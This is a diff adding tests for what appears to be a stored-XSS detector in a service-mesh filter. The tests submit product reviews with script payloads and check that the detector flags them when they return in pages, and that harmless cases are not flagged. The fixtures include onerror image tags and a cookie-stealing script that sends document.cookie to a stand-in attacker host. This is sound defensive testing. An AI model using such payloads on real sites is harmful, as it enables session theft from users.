@@ -582,3 +582,74 @@ describe("credentials of clients in calls to others", () => {
     );
   });
 });
+
+describe("tags that were stored", () => {
+  const HTML: Header = ["content-type", "text/html"];
+  const TAG = "<img src=x onerror=alert(4711)>";
+  const review = (shop: Service, text: string, path = "/reviews"): void => {
+    const headers: Header[] = [["content-type", "application/json"]];
+    shop.request({ url: `http://www.shop.example${path}`, method: "POST", headers, body: JSON.stringify({ text }) });
+  };
+  const page = (shop: Service, body: string, path = "/items/7", type = HTML): string[] => {
+    const stream = shop.inbound.openStream({
+      request: { method: "GET", path, headers: [["host", "www.shop.example"]] },
+      properties: { xds: { listener_direction: 1n } },
+    });
+    stream.sendHeaders(true);
+    stream.respond({ status: 200, headers: [type], body });
+    stream.end();
+    const text = stream.filterState.get("wasm.meshward.verdict")!.toString();
+    const { findings = [] } = (text.startsWith("{") ? JSON.parse(text) : {}) as { findings?: Finding[] };
+    return findings
+      .filter(({ rule }) => rule === "xss-stored")
+      .map(({ stage, where, hops }) => `${stage} ${where.part} ${where.name} from ${(hops ?? []).join(" to ")}`);
+  };
+
+  it("are told of where they stand in a page later, with where they came in", async () => {
+    const shop = await service("shop", { all: true });
+    assert.deepEqual(page(shop, `<p>nothing`), []);
+    review(shop, `nice ${TAG}`);
+    assert.deepEqual(page(shop, `<ul><li>Eve: nice ${TAG}</ul>`), [
+      "likely response-body img from shop POST /reviews json /text to shop GET /items/{number} response-body img",
+    ]);
+    const script = "<script>fetch('//evil.example/'+document.cookie)</script>";
+    review(shop, script);
+    assert.equal(page(shop, `<title>x</title>${script}`).length, 1);
+    shop.process.advance(700_000);
+    assert.deepEqual(page(shop, TAG), [], "too long ago");
+  });
+
+  it("are none where they run nothing, or are not what came in", async () => {
+    for (const [why, body, text = TAG] of [
+      ["encoded", TAG.replace("<", "&lt;")],
+      ["in a comment", `<!-- ${TAG} -->`],
+      ["in a text field", `<textarea>${TAG}</textarea>`],
+      ["in a string of a script", `<script>var a = "${TAG}";</script>`],
+      ["another one", TAG.replace("4711", "4712")],
+      ["without what runs", "<img src=x>"],
+      ["it calls nothing", "<b onclick=toggle()>x</b>", "<b onclick=toggle()>x</b>"],
+    ] as [string, string, string?][]) {
+      const shop = await service("shop", { all: true });
+      review(shop, text);
+      assert.deepEqual(page(shop, `<ul>${body}</ul>`), [], why);
+    }
+    const shop = await service("shop", { all: true });
+    review(shop, TAG, "/admin/pages");
+    assert.deepEqual(page(shop, TAG), [], "who writes pages");
+    review(shop, TAG);
+    assert.deepEqual(page(shop, TAG, "/items", ["content-type", "application/json"]), [], "no page");
+  });
+
+  it("are none of the page's own that somebody sends back, nor what the same request brought", async () => {
+    const shop = await service("shop", { all: true });
+    const own = `<button onclick="return confirm('Sure?')">`;
+    for (const path of ["/items/7", "/items/7"]) assert.deepEqual(page(shop, own, path), []);
+    review(shop, own);
+    assert.deepEqual(page(shop, own), []);
+    const path = `/search?q=${encodeURIComponent(TAG)}`;
+    for (let visit = 0; visit < 3; visit++) assert.deepEqual(page(shop, `<p>${TAG}`, path), []);
+    // A flood of tags takes room from older ones, and from nobody else.
+    for (let each = 0; each < 3_000; each++) review(shop, `<img src=${each} onerror=alert(1)>`);
+    assert.equal(page(shop, "<img src=2999 onerror=alert(1)>").length, 1);
+  });
+});
